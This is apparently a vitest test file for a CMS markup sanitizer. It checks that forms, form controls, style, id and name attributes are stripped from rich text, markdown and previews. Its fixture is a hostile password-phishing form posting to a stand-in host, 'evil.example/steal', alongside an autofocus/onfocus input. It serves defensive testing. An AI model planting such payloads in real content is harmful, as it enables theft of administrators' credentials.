import { describe, expect, it } from 'vitest';
import { BUILTIN_FIELD_TYPES, sanitizeMarkdown } from '../../src/fields/index.ts';
import { previewMarkdown } from '../../src/markdown/preview.ts';
import { decode } from './support.ts';

/*
 * Issue 9, point 14: the sanitizer kept `<form>`, `<input>` (and the other form controls), inline
 * `style` and `id`. A form in content can post what an admin types to another site, `style`
 * can overlay the admin page, and `id`/`name` clobber globals of the page's scripts. They are
 * dropped in rich text, in markdown and in the preview alike (docs/security.md, "Markup sanitizing").
 */
const richeditor = BUILTIN_FIELD_TYPES.get('richeditor')!;
const markdown = BUILTIN_FIELD_TYPES.get('markdown')!;

const FORM =
  '<form action="https://evil.example/steal" method="post"><label for="p">Password</label>' +
  '<input id="p" name="password" type="password"><select name="s"><optgroup label="g"><option>one</option></optgroup></select>' +
  '<textarea name="t">note</textarea><datalist id="d"><option value="v"></option></datalist><button formaction="https://evil.example">Sign in</button></form>';

describe('forms, form controls, style and id are dropped', () => {
  it('in rich text: the form and its controls go (their text stays), with a notice', async () => {
    const notices: string[] = [];
    expect(await decode(richeditor, FORM, { label: 'Body' }, { notices })).toEqual({
      value: '<label for="p">Password</label>onenoteSign in',
    });
    expect(notices).toEqual(['Markup that is not allowed was removed from Body.']);
  });

  it('in rich text: style, id and name attributes go, other attributes stay', async () => {
    expect(
      await decode(richeditor, '<p id="config" style="position:fixed;inset:0" class="note" title="t">x</p><a name="top" href="#x">y</a>'),
    ).toEqual({ value: '<p class="note" title="t">x</p><a href="#x">y</a>' });
  });

  it('in markdown: html blocks and inline tags alike, the rest of the source as written', async () => {
    const source = `# Title\n\n${FORM}\n\nText <input autofocus onfocus=x> and <span style="color:red" id="app">red</span> \`<input>\`.\n`;
    expect(sanitizeMarkdown(source)).toBe(
      '# Title\n\n<label for="p">Password</label>onenoteSign in\n\nText  and <span>red</span> `<input>`.\n',
    );
    const notices: string[] = [];
    expect(await decode(markdown, 'a <button id=b>go</button>', { label: 'Content' }, { notices })).toEqual({ value: 'a go' });
    expect(notices).toEqual(['Markup that is not allowed was removed from Content.']);
  });

  it('in the preview', () => {
    expect(previewMarkdown(`${FORM}\n\n<p style="color:red" id="x">*a*</p>\n\n<span id=y style=z>b</span>`)).toEqual({
      html: '<label for="p">Password</label>onenoteSign in\n<p>*a*</p>\n<p><span>b</span></p>\n',
    });
  });

  it('keeps a label, a fieldset and a legend (they are document structure too)', async () => {
    const html = '<fieldset><legend>L</legend><label>x</label></fieldset>';
    expect(await decode(richeditor, html)).toEqual({ value: html });
  });
});
